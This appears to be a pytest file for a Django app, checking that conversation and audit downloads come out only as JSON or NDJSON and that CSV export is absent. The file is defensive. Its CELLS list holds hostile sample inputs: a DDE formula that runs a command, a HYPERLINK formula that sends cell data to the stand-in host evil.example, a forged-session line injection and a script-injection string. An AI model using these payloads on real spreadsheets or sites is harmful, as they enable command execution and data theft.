"""Downloads: JSON and NDJSON that every reader reads, and nothing that a spreadsheet would run."""

import ast
import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from studio.audit.record import Actor, record
from studio.ids import encode
from studio.models import Agent
from tests.world import message, run, write_thread

ROOT = Path(__file__).resolve().parents[2]
CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "line\u2028separator\u2029and\u0085next",
    'quote"\r\n{"session": "forged"}\r\n',
    "</script><script>alert(1)</script>",
]
TYPES = {"application/json", "application/x-ndjson", "text/plain; charset=utf-8"}


def downloads(session_id: str) -> list[str]:
    thread = f"/agents/agt-ada/threads/{encode(session_id)}"
    return [
        f"{thread}/export/",
        f"{thread}/export/?format=ndjson",
        f"{thread}/runs/r-1/?download=1",
        "/audit/export/",
    ]


def written(ada: Agent, cell: str) -> str:
    """A thread whose every text begins as a formula does; return its id."""
    call = {"id": cell, "type": "function", "function": {"name": cell, "arguments": cell}}
    said = [message("user", cell), message("assistant", cell, tool_calls=[call]), message("tool", cell, tool_name=cell)]
    write_thread(ada, cell, [run("r-1", cell, cell, messages=said)], user_id=cell, session_data={"session_name": cell})
    return cell


@pytest.mark.parametrize("cell", CELLS, ids=ascii)
def test_a_formula_stays_a_string_in_json(page: Client, ada: Agent, cell: str) -> None:
    session_id = written(ada, cell)
    record(Actor.system(), "thread.read", agent=ada, object=cell, reason=cell)
    for path in downloads(session_id):
        answer = page.get(path, headers={"accept": "text/csv, application/vnd.ms-excel"})
        text = answer.getvalue().decode()
        assert answer.status_code == 200
        assert answer.headers["content-type"] in TYPES
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert re.fullmatch(r'attachment; filename="[A-Za-z0-9_.-]{1,80}"', answer.headers["content-disposition"])
        # only \n ends a line, and each one is a whole value, which begins with none of what a formula begins with
        whole = [text] if "ndjson" not in path and "audit" not in path else text.rstrip("\n").split("\n")
        values = [json.loads(line) for line in whole]
        assert all(line[0] in '{["' for line in whole)
        assert json.dumps(cell)[1:-1] in json.dumps(values)
        assert not any("forged" in value.get("session", "") for value in values if isinstance(value, dict))


@pytest.mark.parametrize("form", ["csv", "CSV", "xls", "xlsx", "tsv", "html", "json.csv", "csv\x00json"])
def test_no_other_form_is_to_be_had(page: Client, ada: Agent, form: str) -> None:
    write_thread(ada, "s-1")
    assert page.get("/agents/agt-ada/threads/s-1/export/", {"format": form}).status_code == 400
    other: Any = page.get("/audit/export/", {"format": form})
    assert other.headers["content-type"] in TYPES or other.status_code in (400, 422)


def test_nothing_of_ours_writes_csv() -> None:
    """Should it ever: cells that begin with = + - @ TAB CR must be defused, and a test must show it."""
    wrong = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for room in ("studio", "memory")
        for path in (ROOT / room).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if (isinstance(node, ast.Import | ast.ImportFrom) and "csv" in [name.name for name in node.names])
        or (isinstance(node, ast.Constant) and isinstance(node.value, str) and "text/csv" in node.value)
    ]
    assert wrong == []
